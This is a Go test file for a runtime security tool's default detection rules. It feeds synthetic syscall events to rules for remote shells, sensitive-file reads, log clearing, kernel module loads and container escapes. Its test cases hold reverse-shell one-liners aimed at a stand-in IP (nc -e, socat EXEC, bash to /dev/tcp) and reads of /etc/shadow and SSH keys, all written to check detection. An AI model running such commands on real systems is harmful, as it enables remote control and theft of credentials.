package defaultrules_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/vigil-sec/vigil/rules"
	defaultrules "github.com/vigil-sec/vigil/rules/default"
	"github.com/vigil-sec/vigil/rules/fields/fieldstest"
)

func load(t *testing.T) *rules.Ruleset {
	t.Helper()
	var srcs []rules.Source
	for _, f := range defaultrules.Files() {
		srcs = append(srcs, rules.Source{Name: f.Name, Data: f.Content})
	}
	rs, err := rules.Load(rules.Options{}, srcs...)
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range rs.Diagnostics() {
		t.Errorf("default ruleset warning: %s", d)
	}
	return rs
}

const containerID = "9f3c1d2e4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0"

// event is what the syscall receiver writes for a process (comm name, with
// parent chain anames) making syscall evtType that returned ret.
func event(evtType, name string, ret int64, anames ...string) map[string]any {
	return map[string]any{
		"vigil.evt.type": evtType, "vigil.evt.num": int64(7), "vigil.evt.rawres": ret,
		"process.pid": int64(3100), "process.vpid": int64(31), "process.executable.name": name,
		"process.command": name, "process.executable.path": "/usr/bin/" + name,
		"process.command_line": name, "process.command_args": []string{name},
		"vigil.proc.anames": anames, "vigil.proc.tty": int64(0),
		"process.user.id": int64(0), "process.user.name": "root", "vigil.user.loginuid": int64(-1),
		"host.name": "node-1",
	}
}

func withArgs(ev map[string]any, args ...string) map[string]any {
	name := ev["process.executable.name"].(string)
	ev["process.command_line"] = strings.Join(append([]string{name}, args...), " ")
	ev["process.command_args"] = append([]string{name}, args...)
	return ev
}

func container(ev map[string]any) map[string]any {
	ev["container.id"] = containerID
	ev["container.name"] = "web"
	ev["container.image.name"] = "docker.io/library/nginx"
	return ev
}

func set(ev map[string]any, kv ...any) map[string]any {
	for i := 0; i < len(kv); i += 2 {
		ev[kv[i].(string)] = kv[i+1]
	}
	return ev
}

// open is an openat of path with the raw and rendered flags.
func open(name, path string, flags int64, flagText string, anames ...string) map[string]any {
	return set(event("openat", name, 3, anames...),
		"vigil.fd.num", int64(3), "vigil.fd.type", "file", "file.path", path,
		"vigil.evt.rawarg.flags", flags, "vigil.evt.arg.flags", flagText, "vigil.evt.arg.name", path)
}

const (
	rdonly = 0
	wronly = 1
	trunc  = 0o1000
	creat  = 0o100
)

func connect(name, peer string, port, ret int64) map[string]any {
	return set(event("connect", name, ret, "bash"),
		"vigil.fd.num", int64(5), "vigil.fd.type", "ipv4", "network.transport", "tcp",
		"client.address", "10.244.1.7", "client.port", int64(41000),
		"server.address", peer, "server.port", port,
		"network.local.address", "10.244.1.7", "network.local.port", int64(41000),
		"network.peer.address", peer, "network.peer.port", port,
		"vigil.fd.name", "10.244.1.7:41000->"+peer)
}

var cases = []struct {
	rule  string
	fires bool
	desc  string
	ev    map[string]any
}{
	{"Netcat-style remote shell", true, "nc with -e", withArgs(event("execve", "nc", 0, "bash"), "-lvp", "4444", "-e", "/bin/sh")},
	{"Netcat-style remote shell", true, "ncat --sh-exec in a container", container(withArgs(event("execve", "ncat", 0, "python3"), "10.0.0.1", "4444", "--sh-exec", "sh -i"))},
	{"Netcat-style remote shell", true, "socat EXEC", withArgs(event("execve", "socat", 0, "bash"), "TCP:1.2.3.4:4444", "EXEC:/bin/bash,pty")},
	{"Netcat-style remote shell", true, "bash to /dev/tcp", withArgs(event("execve", "bash", 0, "php-fpm"), "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")},
	{"Netcat-style remote shell", true, "stdin from /dev/tcp", withArgs(event("execve", "sh", 0, "python3"), "-c", "exec 196<>/dev/tcp/1.2.3.4/4444; sh <&196 >&196 2>&196")},
	{"Netcat-style remote shell", false, "health check through /dev/tcp", withArgs(event("execve", "bash", 0, "kubelet"), "-c", "echo > /dev/tcp/localhost/8080")},
	{"Netcat-style remote shell", false, "socket opened with exec", withArgs(event("execve", "bash", 0, "runc"), "-c", "exec 3<>/dev/tcp/127.0.0.1/8080")},
	{"Netcat-style remote shell", false, "nc port scan", withArgs(event("execve", "nc", 0, "bash"), "-zv", "db", "5432")},
	{"Netcat-style remote shell", false, "failed exec", withArgs(event("execve", "nc", -2, "bash"), "-e", "/bin/sh")},

	{"Terminal shell in container", true, "kubectl exec -it", container(set(event("execve", "bash", 0, "runc", "containerd-shim"), "vigil.proc.tty", int64(34816)))},
	{"Terminal shell in container", false, "same shell on the host", set(event("execve", "bash", 0, "sshd"), "vigil.proc.tty", int64(34816))},
	{"Terminal shell in container", false, "shell without terminal", container(event("execve", "bash", 0, "runc"))},

	{"Shell spawned in container", true, "sh started by a web app", container(withArgs(event("execve", "sh", 0, "python3", "containerd-shim"), "-c", "id"))},
	{"Shell spawned in container", false, "subshell of a script", container(event("execve", "sh", 0, "bash", "containerd-shim"))},
	{"Shell spawned in container", false, "entrypoint shell (pid 1)", container(set(event("execve", "sh", 0, "containerd-shim"), "process.vpid", int64(1)))},
	{"Shell spawned in container", false, "host shell", event("execve", "sh", 0, "python3")},

	{"Unexpected process in container", true, "package manager", container(withArgs(event("execve", "apt-get", 0, "bash"), "install", "nmap"))},
	{"Unexpected process in container", true, "binary not from the image", container(set(event("execve", "xmrig", 0, "sh"), "vigil.proc.is_exe_upper_layer", true))},
	{"Unexpected process in container", false, "the workload", container(set(event("execve", "nginx", 0, "containerd-shim"), "vigil.proc.is_exe_upper_layer", false))},
	{"Unexpected process in container", false, "package manager on the host", withArgs(event("execve", "apt-get", 0, "bash"), "upgrade")},

	{"Sensitive file read by untrusted program", true, "cat /etc/shadow", open("cat", "/etc/shadow", rdonly, "O_RDONLY", "bash")},
	{"Sensitive file read by untrusted program", true, "ssh key read by python in a container", container(open("python3", "/root/.ssh/id_ed25519", rdonly, "O_RDONLY", "bash"))},
	{"Sensitive file read by untrusted program", true, "sudoers.d", open("less", "/etc/sudoers.d/admins", rdonly, "O_RDONLY", "bash")},
	{"Sensitive file read by untrusted program", true, "host key", open("tar", "/etc/ssh/ssh_host_ed25519_key", rdonly, "O_RDONLY", "bash")},
	{"Sensitive file read by untrusted program", false, "sshd reads shadow", open("sshd", "/etc/shadow", rdonly, "O_RDONLY", "systemd")},
	{"Sensitive file read by untrusted program", false, "passwd is not sensitive", open("cat", "/etc/passwd", rdonly, "O_RDONLY", "bash")},
	{"Sensitive file read by untrusted program", false, "public host key", open("cat", "/etc/ssh/ssh_host_ed25519_key.pub", rdonly, "O_RDONLY", "bash")},
	{"Sensitive file read by untrusted program", false, "failed open", set(open("cat", "/etc/shadow", rdonly, "O_RDONLY", "bash"), "vigil.evt.rawres", int64(-13))},

	{"Logs or history cleared", true, "history truncated", open("bash", "/root/.bash_history", wronly|trunc|creat, "O_WRONLY|O_CREAT|O_TRUNC", "sshd")},
	{"Logs or history cleared", true, "log truncated", open("sh", "/var/log/auth.log", wronly|trunc, "O_WRONLY|O_TRUNC", "bash")},
	{"Logs or history cleared", true, "shadow emptied", open("python3", "/etc/shadow", wronly|trunc, "O_WRONLY|O_TRUNC", "bash")},
	{"Logs or history cleared", true, "history deleted", set(event("unlinkat", "rm", 0, "bash"), "vigil.evt.arg.name", "/home/user/.bash_history", "vigil.evt.arg.dirfd", "AT_FDCWD")},
	{"Logs or history cleared", true, "log deleted", set(event("unlink", "rm", 0, "bash"), "vigil.evt.arg.path", "/var/log/secure")},
	{"Logs or history cleared", false, "logrotate truncates", open("logrotate", "/var/log/syslog", wronly|trunc, "O_WRONLY|O_TRUNC", "cron")},
	{"Logs or history cleared", false, "history appended", open("bash", "/root/.bash_history", wronly|0o2000, "O_WRONLY|O_APPEND", "sshd")},
	{"Logs or history cleared", false, "temp file deleted", set(event("unlinkat", "rm", 0, "bash"), "vigil.evt.arg.name", "/tmp/x")},

	{"Write below binary directory", true, "binary planted", open("curl", "/usr/local/bin/kubectl", wronly|creat|trunc, "O_WRONLY|O_CREAT|O_TRUNC", "bash")},
	{"Write below binary directory", false, "package manager", open("dpkg", "/usr/bin/ls", wronly|creat, "O_WRONLY|O_CREAT", "apt")},
	{"Write below binary directory", false, "read only", open("cat", "/usr/bin/ls", rdonly, "O_RDONLY", "bash")},
	{"Write below binary directory", false, "similar prefix", open("curl", "/usr/binaries/x", wronly, "O_WRONLY", "bash")},

	{"Write below etc", true, "cron job planted", open("python3", "/etc/cron.d/backdoor", wronly|creat, "O_WRONLY|O_CREAT", "bash")},
	{"Write below etc", false, "useradd", open("useradd", "/etc/passwd", wronly, "O_WRONLY", "bash")},
	{"Write below etc", false, "read", open("python3", "/etc/hosts", rdonly, "O_RDONLY", "bash")},

	{"Process attached with ptrace", true, "gdb attach", set(event("ptrace", "gdb", 0, "bash"), "vigil.evt.arg.request", "PTRACE_ATTACH", "vigil.evt.arg.pid", "1234")},
	{"Process attached with ptrace", true, "memory poke", set(event("ptrace", "inject", 0, "bash"), "vigil.evt.arg.request", "PTRACE_POKEDATA", "vigil.evt.arg.pid", "1234")},
	{"Process attached with ptrace", false, "traceme", set(event("ptrace", "app", 0, "strace"), "vigil.evt.arg.request", "PTRACE_TRACEME")},
	{"Process attached with ptrace", false, "attach denied", set(event("ptrace", "gdb", -1, "bash"), "vigil.evt.arg.request", "PTRACE_ATTACH")},

	{"Kernel module loaded", true, "insmod on the host", set(event("finit_module", "insmod", 0, "bash"), "vigil.evt.arg.fd", "/tmp/rootkit.ko")},
	{"Kernel module loaded", true, "modprobe from a container", container(event("init_module", "modprobe", 0, "bash"))},
	{"Kernel module loaded", false, "udev", event("finit_module", "systemd-udevd", 0, "systemd")},
	{"Kernel module loaded", false, "kernel on-demand load", event("finit_module", "modprobe", 0, "kworker/u8:2")},

	{"Namespace changed by unexpected program", true, "nsenter", withArgs(event("setns", "nsenter", 0, "bash"), "-t", "1", "-m", "sh")},
	{"Namespace changed by unexpected program", false, "runc exec", event("setns", "runc:[2:INIT]", 0, "runc")},
	{"Namespace changed by unexpected program", false, "containerd-shim", event("setns", "containerd-shim", 0, "systemd")},

	{"Mount in privileged container", true, "host disk mounted", container(set(event("mount", "mount", 0, "bash"), "vigil.evt.arg.dev", "/dev/vda1", "vigil.evt.arg.dir", "/mnt", "vigil.evt.arg.type", "ext4"))},
	{"Mount in privileged container", false, "mount on the host", set(event("mount", "mount", 0, "bash"), "vigil.evt.arg.dev", "/dev/vdb1")},
	{"Mount in privileged container", false, "runtime setting up the container", container(event("mount", "runc:[1:CHILD]", 0, "runc"))},
	{"Mount in privileged container", false, "mount refused", container(event("mount", "mount", -1, "bash"))},

	{"Host hook written from container", true, "release_agent", container(open("sh", "/tmp/cg/release_agent", wronly|trunc, "O_WRONLY|O_TRUNC", "bash"))},
	{"Host hook written from container", true, "core_pattern", container(open("sh", "/proc/sys/kernel/core_pattern", wronly|trunc, "O_WRONLY|O_TRUNC", "bash"))},
	{"Host hook written from container", false, "on the host", open("sh", "/sys/fs/cgroup/release_agent", wronly, "O_WRONLY", "bash")},
	{"Host hook written from container", false, "read in a container", container(open("cat", "/proc/sys/kernel/core_pattern", rdonly, "O_RDONLY", "bash"))},

	{"Outbound connection from container", true, "to the internet", container(connect("curl", "93.184.216.34", 443, 0))},
	{"Outbound connection from container", true, "non-blocking connect in progress", container(connect("python3", "2001:4860:4860::8888", 53, -115))},
	{"Outbound connection from container", false, "to a cluster service", container(connect("curl", "10.96.0.1", 443, 0))},
	{"Outbound connection from container", false, "from the host", connect("curl", "93.184.216.34", 443, 0)},
	{"Outbound connection from container", false, "refused", container(connect("curl", "93.184.216.34", 443, -111))},
	{"Outbound connection from container", false, "unix socket", container(set(event("connect", "app", 0, "bash"), "vigil.fd.type", "unix", "vigil.fd.name", "/run/app.sock"))},
}

func TestRules(t *testing.T) {
	rs := load(t)
	seen := map[string][2]int{}
	var buf []*rules.Rule
	for _, c := range cases {
		if rs.Rule(c.rule) == nil {
			t.Fatalf("no rule %q", c.rule)
		}
		buf = rs.Match(fieldstest.FromMap(c.ev), rules.MatchAll, buf[:0])
		fired := false
		for _, r := range buf {
			fired = fired || r.Name == c.rule
		}
		if fired != c.fires {
			t.Errorf("%s (%s): fired %v, want %v; rules that fired: %v", c.rule, c.desc, fired, c.fires, names(buf))
		}
		s := seen[c.rule]
		if c.fires {
			s[0]++
		} else {
			s[1]++
		}
		seen[c.rule] = s
	}
	for _, r := range rs.Rules() {
		if s := seen[r.Name]; s[0] == 0 || s[1] == 0 {
			t.Errorf("rule %q needs a positive and a negative case (has %d and %d)", r.Name, s[0], s[1])
		}
	}
}

func names(rs []*rules.Rule) []string {
	out := make([]string, len(rs))
	for i, r := range rs {
		out[i] = r.Name
	}
	return out
}

// TestCatShadowOnHost is the end-to-end scenario: cat /etc/shadow, started
// by a program that is not a shell, on the host. Its exec and its open must
// raise exactly one alert from the default rules, whatever rule_matching.
func TestCatShadowOnHost(t *testing.T) {
	rs := load(t)
	exec := withArgs(event("execve", "cat", 0, "e2e.test", "systemd"), "/etc/shadow")
	rd := withArgs(open("cat", "/etc/shadow", rdonly|0o2000000, "O_RDONLY|O_CLOEXEC", "e2e.test", "systemd"), "/etc/shadow")
	var all []string
	for _, ev := range []map[string]any{exec, rd} {
		all = append(all, names(rs.Match(fieldstest.FromMap(ev), rules.MatchAll, nil))...)
	}
	if !slices.Equal(all, []string{"Sensitive file read by untrusted program"}) {
		t.Fatalf("alerts %q, want exactly the sensitive-file read", all)
	}
}

func TestSyscalls(t *testing.T) {
	rs := load(t)
	want := []string{"connect", "execve", "execveat", "finit_module", "fsmount", "init_module", "mount", "move_mount",
		"open", "openat", "openat2", "ptrace", "setns", "unlink", "unlinkat"}
	if got := rs.Syscalls(); !slices.Equal(got, want) {
		t.Errorf("syscalls %v, want %v", got, want)
	}
}

func TestFilesInNameOrder(t *testing.T) {
	fs := defaultrules.Files()
	got := make([]string, len(fs))
	for i, f := range fs {
		got[i] = f.Name
	}
	if !slices.IsSorted(got) || len(got) < 2 {
		t.Errorf("files %v", got)
	}
}
